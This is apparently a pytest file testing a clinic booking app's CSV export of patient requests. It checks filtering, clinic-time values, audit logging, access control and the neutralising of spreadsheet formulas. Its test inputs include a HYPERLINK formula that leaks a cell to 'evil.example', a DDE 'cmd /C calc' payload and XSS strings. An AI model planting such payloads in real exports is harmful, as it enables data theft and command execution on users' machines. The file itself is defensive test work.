"""CSV export of the queue's filtered list: every matching row (not one page), correct values
in clinic time, cells a spreadsheet cannot run as formulas, an audit row, coordinators only."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, text

from booking import create_app
from booking.audit.models import AuditEvent
from booking.dashboard import export as export_module
from booking.dashboard import queries
from booking.dashboard.export import COLUMNS, csv_head, csv_rows, headings
from booking.extensions import db
from booking.requests.instruments import NDI
from booking.requests.models import ConsultationRequest
from booking.requests.triage import BY_CODE
from booking.timeutil import clinic_today
from tests.factories import (
    make_appointment_type,
    make_hours,
    make_location,
    make_request,
    make_staff,
    slot_two_days_ahead,
    staff_user,
)
from tests.support import AuthActions, Clinic, Staff, export_queue, shown_actions, winter_day

BERLIN = ZoneInfo("Europe/Berlin")
# The factory's example pain scores, for its lower-back patients (history.ANSWERS).
LOWER_BACK_PAIN = {
    "back_pain_now": "5",
    "back_pain_worst": "8",
    "leg_pain_now": "4",
    "leg_pain_worst": "7",
    "neck_pain_now": "",
    "neck_pain_worst": "",
    "arm_pain_now": "",
    "arm_pain_worst": "",
    "overall_pain_now": "",
    "overall_pain_worst": "",
}
NO_NDI = {"ndi_sections_answered": "0", "ndi_points": "", "ndi_percent": "", "ndi_band": ""}
RED_FLAG_QUESTIONS = "; ".join(str(BY_CODE[code].question) for code in ("fever", "serious_injury"))
CSRF_VALUE = re.compile(r'csrf_token"[^>]*value="([^"]+)"')
STAFF_IP = "198.51.100.23"
# Nine of the NDI's ten sections answered, 20 points of 45: 44.4 % (stored to a tenth).
NINE_NDI_ANSWERS = dict(zip(NDI.section_keys[:9], [3, 3, 3, 3, 2, 2, 2, 1, 1], strict=True))


@pytest.fixture
def staff_client(auth: AuthActions, staff: Staff) -> FlaskClient:
    """A browser signed in as the coordinator, calling from a known address."""
    return auth.new_client("coordinator", REMOTE_ADDR=STAFF_IP)


def new_request(app: Flask, **overrides: Any) -> str:
    with app.app_context():
        return make_request(**overrides).reference


def set_created(app: Flask, created: dict[str, datetime]) -> None:
    with app.app_context():
        for reference, at in created.items():
            row = db.session.scalars(
                select(ConsultationRequest).where(ConsultationRequest.reference == reference)
            ).one()
            row.created_at = at
        db.session.commit()


def act(client: FlaskClient, reference: str, action: str, **fields: Any) -> None:
    """Work a request through the record page's real form."""
    page = client.get(f"/staff/requests/{reference}").get_data(as_text=True)
    token = CSRF_VALUE.search(page)
    assert token, "no CSRF token on the record page"
    prefix = {"confirm": "slot", "cancel": "close", "decline": "close"}.get(action, "action")
    data = {
        f"{prefix}-csrf_token": token.group(1),
        **{f"{prefix}-{k}": v for k, v in fields.items()},
    }
    if action == "no_show":
        data["confirmed"] = "1"  # its confirmation page's button (asked first: test_workflow)
    response = client.post(f"/staff/requests/{reference}/{action}", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]


def export(client: FlaskClient, **args: Any) -> list[dict[str, str]]:
    """GET the export and parse it as a spreadsheet would read the file: rows as dicts."""
    response = export_queue(client, args)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    raw = response.get_data()
    # A byte-order mark first, so a spreadsheet reads the file as UTF-8.
    assert raw.startswith(codecs.BOM_UTF8)
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows, "an empty file, not even a header"
    with client.application.app_context():
        assert rows[0] == headings()
    assert all(len(row) == len(COLUMNS) for row in rows)
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]]


def exported_audit(app: Flask) -> list[AuditEvent]:
    with app.app_context():
        rows = db.session.scalars(
            select(AuditEvent)
            .where(AuditEvent.action == "requests_exported")
            .order_by(AuditEvent.id)
        ).all()
        db.session.expunge_all()
        return list(rows)


# --- which rows -----------------------------------------------------------------------------


def test_export_has_every_row_of_the_filtered_list_not_just_one_page(
    app: Flask, staff_client: FlaskClient
) -> None:
    waiting = [new_request(app, email=f"p{n}@example.com") for n in range(27)]
    urgent = [new_request(app, email=f"u{n}@example.com", red_flags={"fever"}) for n in range(2)]
    declined = new_request(app, email="d@example.com")
    start = datetime(2026, 3, 1, 8, tzinfo=UTC)
    set_created(app, {ref: start + timedelta(hours=n) for n, ref in enumerate(waiting + urgent)})
    act(staff_client, declined, "decline", message="We do not treat this here.")

    # The queue shows 25 of the 29 waiting requests; the export has all 29, in queue order.
    rows = export(staff_client)
    assert [r["reference"] for r in rows] == urgent + waiting
    assert {r["status"] for r in rows} == {"Requested"}

    assert [r["reference"] for r in export(staff_client, triage="urgent")] == urgent
    assert len(export(staff_client, status="all")) == 30
    assert [r["reference"] for r in export(staff_client, status="declined")] == [declined]
    # A page number in the URL does not cut the export to that page.
    assert len(export(staff_client, page=2)) == 29
    assert [r["reference"] for r in export(staff_client, q="p13@example.com")] == [waiting[13]]


def test_a_long_list_is_read_in_batches_and_sent_in_pieces(
    app: Flask, staff_client: FlaskClient, staff: Staff, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export is never held whole: the rows are read a batch at a time and the file goes
    out in pieces as they are read. Small batches here, so five rows cross their edges."""
    monkeypatch.setattr(queries, "EXPORT_BATCH", 2)
    references = [new_request(app, email=f"b{n}@example.com") for n in range(5)]
    set_created(
        app, {ref: datetime(2026, 3, 1, 8 + n, tzinfo=UTC) for n, ref in enumerate(references)}
    )

    response = export_queue(staff_client)
    assert response.is_streamed and "Content-Length" not in response.headers
    response.close()
    rows = export(staff_client)
    assert [r["reference"] for r in rows] == references
    assert all(r["patient"] and r["email"] for r in rows), "a batch lost its joined rows"

    # Pieces as the rows come: the heading's piece, then one per two rows and the rest.
    with app.test_request_context("/staff/export.csv"):
        listed = queries.export_rows(staff_user(staff.coordinator.email), queries.QueueFilters())
        pieces = [csv_head(), *csv_rows(listed, rows_per_piece=2)]
    assert [piece.count("\r\n") for piece in pieces] == [1, 2, 2, 1]  # nothing twice


def test_an_abandoned_download_is_audited_all_the_same(
    app: Flask, staff_client: FlaskClient
) -> None:
    """The audit row is written before the first byte: a download stopped at once (closed,
    as a browser does when the person cancels) still says who took how many rows."""
    for n in range(3):
        new_request(app, email=f"a{n}@example.com")
    response = export_queue(staff_client)
    assert response.status_code == 200
    next(iter(response.response))  # the first piece only, then the connection closes
    response.close()

    (audit,) = exported_audit(app)
    assert audit.details == {"filters": {"status": "requested"}, "rows": 3}
    # The closed stream released its database session: the next page works.
    assert staff_client.get("/staff/").status_code == 200


def ended_audit(app: Flask) -> list[AuditEvent]:
    with app.app_context():
        rows = db.session.scalars(
            select(AuditEvent)
            .where(AuditEvent.action == "requests_export_ended")
            .order_by(AuditEvent.id)
        ).all()
        db.session.expunge_all()
        return list(rows)


def dpo_query() -> str:
    """The SQL the breach procedure gives the DPO to find who opened or exported a record."""
    text_ = (Path(__file__).parents[1] / "docs" / "data-protection.md").read_text()
    procedure = text_[text_.index("## Breach procedure") :]
    match = re.search(r"```sql\n(.*?)```", procedure, re.S)
    assert match, "the breach procedure has no SQL to find who opened a record"
    return textwrap.dedent(match.group(1))


def test_the_audit_names_the_requests_exported_and_the_dpo_finds_them(
    app: Flask, staff_client: FlaskClient, auth: AuthActions
) -> None:
    """The breach procedure's query for one patient's reference finds the exports that held
    that request (and only those), as does the admin's audit page; the search term, often
    a patient's name, is in no audit row."""
    lucia = new_request(app, full_name="Lucía Zamora Pérez", email="lz@example.com")
    lucio = new_request(app, full_name="Lucio Zamora", email="lo@example.com")
    other = new_request(app, full_name="Ana Ruiz", email="ar@example.com")

    rows = export(staff_client, q="Zamora")
    assert sorted(r["reference"] for r in rows) == sorted([lucia, lucio])

    (started,) = exported_audit(app)
    assert started.details == {"filters": {"status": "requested", "search_used": True}, "rows": 2}
    (ended,) = ended_audit(app)
    assert ended.details == {
        "export": started.id,
        "complete": True,
        "rows": 2,
        "references": [r["reference"] for r in rows],
    }
    assert ended.actor_email == started.actor_email and ended.actor_id is not None
    with app.app_context():
        trail = db.session.scalars(select(AuditEvent)).all()
        assert not [e.action for e in trail if "zamora" in json.dumps(e.details).lower()]

        def found(reference: str) -> list[str]:
            sql = dpo_query().replace("<reference>", reference)
            return [row.action for row in db.session.execute(text(sql))]

        assert found(lucia)[-1] == "requests_export_ended"
        assert "requests_export_ended" not in found(other)

    admin = auth.new_client("admin")
    page = admin.get("/staff/admin/audit", query_string={"target": lucia.lower()})
    assert page.status_code == 200
    shown = page.get_data(as_text=True)
    listed = ", ".join(f"<bdi>{r['reference']}</bdi>" for r in rows)  # text, isolated
    assert "requests_export_ended" in shown_actions(shown) and f"references: {listed}" in shown
    page = admin.get("/staff/admin/audit", query_string={"target": other})
    assert "requests_export_ended" not in shown_actions(page.get_data(as_text=True))


def test_a_cancelled_download_audits_the_rows_it_generated(
    app: Flask, staff_client: FlaskClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A download cancelled midway (the browser closes the connection, the server closes the
    stream) is audited with the rows handed on until then, and said to be incomplete."""
    monkeypatch.setattr(export_module, "ROWS_PER_PIECE", 2)
    references = [new_request(app, email=f"c{n}@example.com") for n in range(5)]
    set_created(
        app, {ref: datetime(2026, 3, 1, 8 + n, tzinfo=UTC) for n, ref in enumerate(references)}
    )
    response = export_queue(staff_client)
    pieces = iter(response.response)
    next(pieces)  # the heading
    next(pieces)  # the first two rows, then the person cancels
    response.close()

    (started,) = exported_audit(app)
    (ended,) = ended_audit(app)
    assert started.details["rows"] == 5
    assert ended.details == {
        "export": started.id,
        "complete": False,
        "rows": 2,
        "references": references[:2],
    }
    assert staff_client.get("/staff/").status_code == 200


class TestASemicolonForSpreadsheetsInGerman:
    @pytest.fixture
    def app_settings(self, app_settings: dict[str, Any]) -> dict[str, Any]:
        app_settings["EXPORT_CSV_DELIMITER"] = ";"
        return app_settings

    def test_cells_are_separated_by_the_clinics_setting(
        self, app: Flask, staff_client: FlaskClient
    ) -> None:
        """A spreadsheet set to German reads ";" as its list separator: with "," every row
        landed in one cell. Cells holding the separator are quoted."""
        reference = new_request(app, full_name="Weber; Anna")
        raw = export_queue(staff_client).get_data().decode("utf-8-sig")
        heading, row = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
        assert heading[:2] == ["Reference", "Status"] and len(heading) == len(COLUMNS)
        cells = dict(zip(COLUMNS, row, strict=True))
        assert (cells["reference"], cells["patient"]) == (reference, "Weber; Anna")

    def test_a_decimal_has_the_decimal_comma_of_those_spreadsheets(
        self, app: Flask, staff_client: FlaskClient
    ) -> None:
        """A spreadsheet whose list separator is ";" writes 44,4 for 44.4: it read "44.4" as
        444 (the dot groups thousands there) and "12.5" as the 12th of May."""
        new_request(app, spine_region="neck", ndi_answers=NINE_NDI_ANSWERS)
        raw = export_queue(staff_client).get_data().decode("utf-8-sig")
        _heading, row = list(csv.reader(io.StringIO(raw, newline=""), delimiter=";"))
        cells = dict(zip(COLUMNS, row, strict=True))
        assert (cells["ndi_points"], cells["ndi_percent"]) == ("20", "44,4")


def test_a_decimal_has_a_decimal_point_where_cells_are_separated_by_commas(
    app: Flask, staff_client: FlaskClient
) -> None:
    new_request(app, spine_region="neck", ndi_answers=NINE_NDI_ANSWERS)
    (row,) = export(staff_client, status="all")
    # 20 of 45 possible points over the nine answered sections.
    assert (row["ndi_points"], row["ndi_percent"]) == ("20", "44.4")


def test_a_mistyped_separator_stops_the_start(app_settings: dict[str, Any]) -> None:
    with pytest.raises(RuntimeError, match="EXPORT_CSV_DELIMITER must be"):
        create_app({**app_settings, "EXPORT_CSV_DELIMITER": "|"})


def test_the_queues_export_button_posts_its_current_filters(
    app: Flask, staff_client: FlaskClient
) -> None:
    new_request(app)
    page = staff_client.get("/staff/?status=all&triage=urgent&q=erika&page=1").get_data(
        as_text=True
    )
    link = re.search(r'<form method="post"[^>]*action="(/staff/export\.csv[^"]*)"', page)
    assert link
    url = link.group(1).replace("&amp;", "&")
    assert "status=all" in url and "triage=urgent" in url and "q=erika" in url
    assert "page=" not in url


def test_export_filters_by_the_clinic_day(app: Flask, staff_client: FlaskClient) -> None:
    late = new_request(app, email="late@example.com")
    next_day = new_request(app, email="next@example.com")
    set_created(
        app,
        {
            late: datetime(2026, 3, 10, 23, 30, tzinfo=BERLIN),  # 22:30 UTC
            next_day: datetime(2026, 3, 11, 0, 30, tzinfo=BERLIN),  # still the 10th in UTC
        },
    )
    rows = export(staff_client, **{"from": "2026-03-10", "to": "2026-03-10"})
    assert [r["reference"] for r in rows] == [late]
    assert rows[0]["received"] == "2026-03-10 23:30"


def test_export_follows_the_queues_choice_of_the_appointment_day(
    app: Flask, staff_client: FlaskClient, clinic: Clinic
) -> None:
    """The queue's From and To applied to the appointment (``dates``): the file holds the
    requests booked on those clinic days, not those that arrived then, nor those with no
    appointment; its audit row names the choice with the other filters."""
    from booking.dashboard.services import confirm_request
    from booking.scheduling.models import Appointment

    booked = {}
    with app.app_context():
        coordinator = staff_user(clinic.coordinator.email)
        for name, at in (
            ("late", datetime(2026, 3, 10, 23, 30, tzinfo=BERLIN)),  # 22:30 UTC
            ("next", datetime(2026, 3, 11, 0, 30, tzinfo=BERLIN)),  # still the 10th in UTC
        ):
            consultation = make_request(email=f"{name}@example.com")
            # Each booked at the first open time, then moved to its day (staff book times to
            # come; the time is free again for the next).
            confirm_request(consultation, coordinator, slot_two_days_ahead(clinic))
            appointment = db.session.get(Appointment, consultation.appointment.id)
            shift = at - appointment.starts_at
            appointment.starts_at += shift
            appointment.ends_at += shift
            appointment.blocked_until += shift
            db.session.commit()
            booked[name] = consultation.reference
    unbooked = new_request(app, email="none@example.com")
    on_the_tenth = datetime(2026, 3, 10, 12, tzinfo=BERLIN)
    set_created(app, {booked["late"]: on_the_tenth, booked["next"]: on_the_tenth})
    set_created(app, {unbooked: on_the_tenth})

    tenth = {"status": "all", "from": "2026-03-10", "to": "2026-03-10"}
    rows = export(staff_client, **tenth, dates="appointment")
    assert [r["reference"] for r in rows] == [booked["late"]]
    assert rows[0]["appointment"] == "2026-03-10 23:30"
    # By arrival (the default), the three that arrived on the 10th.
    arrived = export(staff_client, **tenth)
    assert {r["reference"] for r in arrived} == {*booked.values(), unbooked}
    first, second = exported_audit(app)[-2:]
    assert first.details["filters"]["dates"] == "appointment"
    assert first.details["rows"] == 1
    assert "dates" not in second.details["filters"]


# --- the values -----------------------------------------------------------------------------


def test_a_time_in_the_repeated_hour_names_its_zone(app: Flask, staff_client: FlaskClient) -> None:
    """When the clocks go back (Berlin, 25 October 2026, 03:00 CEST -> 02:00 CET), 02:30
    happens twice: the two read "02:30 CEST" and "02:30 CET", as on the pages, not both
    "02:30"."""
    first = new_request(app, full_name="Erste Stunde", email="first@example.com")
    second = new_request(app, full_name="Zweite Stunde", email="second@example.com")
    set_created(
        app,
        {
            first: datetime(2026, 10, 25, 0, 30, tzinfo=UTC),
            second: datetime(2026, 10, 25, 1, 30, tzinfo=UTC),
        },
    )
    rows = {r["reference"]: r for r in export(staff_client, status="all")}
    assert rows[first]["received"] == "2026-10-25 02:30 CEST"
    assert rows[second]["received"] == "2026-10-25 02:30 CET"


def test_export_values_are_correct_in_clinic_time(app: Flask, staff_client: FlaskClient) -> None:
    with app.app_context():
        weber_user = staff_user("weber@example.com")
        location_row = make_location("Praxis Mitte", "Friedrichstr. 1, Berlin")
        make_hours(weber_user, location_row, range(7), "08:00", "18:00")
        appointment_type = make_appointment_type(minutes=45).id
        weber, location = weber_user.id, location_row.id
    winter = new_request(
        app,
        full_name="Erika Mustermann",
        email="erika@example.com",
        diagnoses=["spinal_stenosis", "herniated_disc"],
        red_flags={"serious_injury", "fever"},
    )
    summer = new_request(
        app,
        full_name="Max Muster",
        email="max@example.com",
        date_of_birth=datetime(2001, 12, 24).date(),
        diagnoses=[],
        odi_answers={},
    )
    cancelled = new_request(app, full_name="Lena Storniert", email="lena@example.com")
    set_created(
        app,
        {
            winter: datetime(2026, 3, 10, 23, 30, tzinfo=BERLIN),
            summer: datetime(2026, 7, 1, 1, 30, tzinfo=BERLIN),  # 30 June in UTC
            cancelled: datetime(2026, 8, 1, 12, 0, tzinfo=UTC),
        },
    )
    day = winter_day(14)  # staff book times to come; January keeps the clinic on winter time
    slot = {
        "specialist": weber,
        "location": location,
        "start": "10:00",
        "appointment_type": appointment_type,
    }
    act(staff_client, winter, "confirm", day=day.isoformat(), message="", **slot)
    next_day = (day + timedelta(days=1)).isoformat()
    act(staff_client, cancelled, "confirm", day=next_day, message="", **slot)
    act(staff_client, cancelled, "cancel", message="")

    rows = {r["reference"]: r for r in export(staff_client, status="all")}
    assert rows[winter] == {
        "reference": winter,
        "status": "Confirmed",
        "triage": "Urgent",
        "received": "2026-03-10 23:30",
        "patient": "Erika Mustermann",
        "date_of_birth": "1970-05-17",
        "email": "erika@example.com",
        "phone": "'+4930901820",  # text, not a number or a formula
        "diagnoses": "Spinal stenosis, Herniated (slipped) disc",
        "spine_region": "Lower back",
        # The lower back's areas only; no overall pair on a new request.
        **LOWER_BACK_PAIN,
        "odi_sections_answered": "8",
        "odi_points": "20",
        "odi_percent": "50",  # the factory's 20 of 40 possible points
        "odi_band": "Severe limitation",
        **NO_NDI,
        "red_flags": RED_FLAG_QUESTIONS,
        "specialist": "Dr. Weber",
        "appointment": f"{day.isoformat()} 10:00",  # 09:00 UTC
        "location": "Praxis Mitte",
    }
    assert rows[summer] == {
        "reference": summer,
        "status": "Requested",
        "triage": "Routine",
        "received": "2026-07-01 01:30",  # the clinic's summer time
        "patient": "Max Muster",
        "date_of_birth": "2001-12-24",
        "email": "max@example.com",
        "phone": "'+4930901820",
        "diagnoses": "",
        "spine_region": "Lower back",
        **LOWER_BACK_PAIN,
        "odi_sections_answered": "0",
        "odi_points": "",
        "odi_percent": "",
        "odi_band": "",
        **NO_NDI,
        "red_flags": "",
        "specialist": "",
        "appointment": "",
        "location": "",
    }
    # A cancelled appointment is no appointment.
    assert rows[cancelled]["status"] == "Cancelled"
    assert rows[cancelled]["received"] == "2026-08-01 14:00"
    assert (rows[cancelled]["appointment"], rows[cancelled]["location"]) == ("", "")

    # Raised by staff (new symptoms): the cell says so, not only the level it shows now.
    from booking.dashboard.services import raise_triage
    from booking.requests.models import ConsultationRequest, TriageLevel

    with app.app_context():
        consultation = db.session.scalars(
            select(ConsultationRequest).where(ConsultationRequest.reference == summer)
        ).one()
        raised = datetime(2026, 7, 2, 9, 15, tzinfo=BERLIN)
        coordinator = staff_user("coord@example.com")
        raise_triage(consultation, coordinator, TriageLevel.URGENT, "Numb.", now=raised)
    rows = {r["reference"]: r for r in export(staff_client, status="all")}
    assert rows[summer]["triage"] == "Urgent (raised by staff 2026-07-02 09:15)"


def test_export_response_headers(app: Flask, staff_client: FlaskClient) -> None:
    new_request(app)
    response = export_queue(staff_client)
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    with app.app_context():
        today = clinic_today().isoformat()
    assert response.headers["Content-Disposition"] == f'attachment; filename="requests-{today}.csv"'
    assert "no-store" in response.headers["Cache-Control"]
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
         '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("Anna-Lena O'Brien", "Anna-Lena O'Brien"),
        ('Erika "Eri" Mustermann, Jr.', 'Erika "Eri" Mustermann, Jr.'),
    ],
    ids=["hyperlink", "plus", "dde", "at", "tab", "carriage-return", "html", "plain", "quoted"],
)  # fmt: skip
def test_cells_a_spreadsheet_could_run_are_neutralised(
    app: Flask, staff_client: FlaskClient, name: str, cell: str
) -> None:
    reference = new_request(app, full_name=name, email="=cmd@example.com", phone="+4930901820")
    (row,) = export(staff_client)
    assert row["reference"] == reference
    assert row["patient"] == cell
    assert row["email"] == "'=cmd@example.com"
    assert row["phone"] == "'+4930901820"
    # Every cell of the file, whatever its column, is safe to open.
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_an_html_name_is_exported_as_plain_text(app: Flask, staff_client: FlaskClient) -> None:
    new_request(app, full_name="<b>Bold</b> & <img src=x onerror=alert(1)>")
    body = export_queue(staff_client).get_data(as_text=True)
    assert "<b>Bold</b> & <img src=x onerror=alert(1)>" in body
    assert "&lt;" not in body and "&amp;" not in body


# --- audit and access -----------------------------------------------------------------------


def test_export_is_audited_with_its_filters_and_row_count(
    app: Flask, staff_client: FlaskClient, staff: Staff
) -> None:
    for n in range(3):
        new_request(app, email=f"r{n}@example.com", red_flags={"serious_injury"})
    new_request(app, email="routine@example.com")

    assert len(export(staff_client, status="all", triage="urgent", q="example", page=3)) == 3
    assert len(export(staff_client)) == 4

    first, second = exported_audit(app)
    assert first.details == {
        # The search term may be a name: the append-only audit trail keeps only its use.
        "filters": {"status": "all", "triage": "urgent", "search_used": True},
        "rows": 3,
    }
    assert second.details == {"filters": {"status": "requested"}, "rows": 4}
    for row in (first, second):
        assert row.actor_id == staff.coordinator.id
        assert row.actor_email == staff.coordinator.email
        assert row.ip_address == STAFF_IP


def test_admins_may_export_specialists_may_not(app: Flask, client: FlaskClient) -> None:
    with app.app_context():
        specialist = make_staff("specialist", "spec@example.com").email
        admin = make_staff("admin", "admin@example.com").email
    new_request(app)

    response = client.post("/staff/export.csv")
    assert response.status_code == 400  # no session, so no form token either

    AuthActions(client).login(email=specialist)
    response = export_queue(client, "status=all")
    assert response.status_code == 403
    assert "erika" not in response.get_data(as_text=True).lower()
    assert "/staff/export.csv" not in client.get("/staff/").get_data(as_text=True)
    assert exported_audit(app) == []

    other = app.test_client()
    AuthActions(other).login(email=admin)
    assert len(export(other, status="all")) == 1


def test_another_sites_link_or_form_exports_nothing(app: Flask, staff_client: FlaskClient) -> None:
    """The export holds every listed patient's name, birth date, contacts and answers: a link
    on another site (a GET), or a form there without the page's token, followed by a
    signed-in coordinator's browser, neither downloads the list nor audits an export in
    their name."""
    new_request(app)
    link = staff_client.get(
        "/staff/export.csv?status=all",
        headers={"Sec-Fetch-Site": "cross-site", "Referer": "https://evil.example/"},
    )
    assert link.status_code == 405 and "erika" not in link.get_data(as_text=True).lower()
    forged = staff_client.post("/staff/export.csv?status=all", data={})
    assert forged.status_code == 400 and "erika" not in forged.get_data(as_text=True).lower()
    assert exported_audit(app) == []
    # The page's own button: a form posting its token, the filters in its address.
    page = staff_client.get("/staff/?status=all").get_data(as_text=True)
    assert re.search(r'<form method="post"[^>]*action="/staff/export\.csv\?status=all"', page)
    assert len(export(staff_client, status="all")) == 1


def test_a_neck_patients_row_has_the_ndi_and_the_neck_and_arm_pain(
    app: Flask, staff_client: FlaskClient
) -> None:
    reference = new_request(
        app, spine_region="neck", ndi_answers=dict.fromkeys(NDI.section_keys[:8], 3)
    )
    (row,) = export(staff_client, status="all")
    assert row["reference"] == reference
    assert row["spine_region"] == "Neck"
    # history.ANSWERS' examples: neck 3 / 6, arm 2 / 5; the back's and the leg's not asked.
    assert (row["neck_pain_now"], row["neck_pain_worst"]) == ("3", "6")
    assert (row["arm_pain_now"], row["arm_pain_worst"]) == ("2", "5")
    assert row["back_pain_now"] == row["leg_pain_worst"] == ""
    # 24 of 40 points over the 8 answered sections: 60 %, severe.
    assert (row["ndi_sections_answered"], row["ndi_points"]) == ("8", "24")
    assert (row["ndi_percent"], row["ndi_band"]) == ("60", "Severe limitation")
    assert (row["odi_sections_answered"], row["odi_percent"]) == ("0", "")


def test_a_spreadsheet_reads_names_and_dates_as_people_write_them(
    app: Flask, staff_client: FlaskClient
) -> None:
    """Excel opens a CSV as UTF-8 only when it starts with a byte-order mark: without one,
    "Lucía" comes out as "LucÃ­a". Dates are the clinic's wall-clock time, without offsets."""
    reference = new_request(app, full_name="Lucía Núñez", email="lucia@example.com")
    set_created(app, {reference: datetime(2026, 12, 7, 9, 5, tzinfo=UTC)})
    raw = export_queue(staff_client).get_data()
    assert raw[:3] == codecs.BOM_UTF8
    header, row = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    cells = dict(zip(header, row, strict=True))
    assert cells["Patient"] == "Lucía Núñez"
    # The clinic's zone named in the heading (the tests' clinic is in Berlin; winter: UTC+1).
    assert cells["Received (Europe/Berlin)"] == "2026-12-07 10:05"
    assert cells["Status"] == "Requested"
    assert cells["Main problem"] == "Lower back"
    assert cells["ODI band"] == "Severe limitation"


@pytest.mark.parametrize(
    "value",
    [" =1+1", "\u00a0=1+1", "\u200b@SUM(A1)", "\n=1+1", "\0=1+1", "  -2+3"],
)
def test_a_formula_behind_blanks_or_control_characters_is_neutralised(value: str) -> None:
    """Spreadsheets skip leading blanks before a formula; OWASP lists NUL and line breaks."""
    from booking.dashboard.export import neutralise

    assert neutralise(value) == "'" + value
    assert neutralise(" plain name") == " plain name"


# Unicode spaces and separators (Z*), controls (Cc) and format characters (Cf): each may come
# before a formula that a spreadsheet still runs.
SKIPPED_FIRST = [
    "\x0b", "\x0c", "\x1c", "\x7f", "\x85", "\u1680", "\u2003", "\u2007", "\u202f",
    "\u205f", "\u3000", "\u2028", "\u2029", "\u200e", "\u200f", "\u202e", "\u2060",
    "\u00ad", "\u061c",
]  # fmt: skip


@pytest.mark.parametrize("skipped", SKIPPED_FIRST, ids=lambda c: f"U+{ord(c):04X}")
@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_formula_behind_any_unicode_space_or_format_character_is_neutralised(
    skipped: str, start: str
) -> None:
    from booking.dashboard.export import neutralise

    value = f'{skipped}{start}HYPERLINK("http://x.example")'
    assert neutralise(value) == "'" + value
    assert neutralise(f" {skipped} {start}1") == f"' {skipped} {start}1"
    # Text after such characters stays as it is.
    assert neutralise(f"{skipped}Ana") == f"{skipped}Ana"
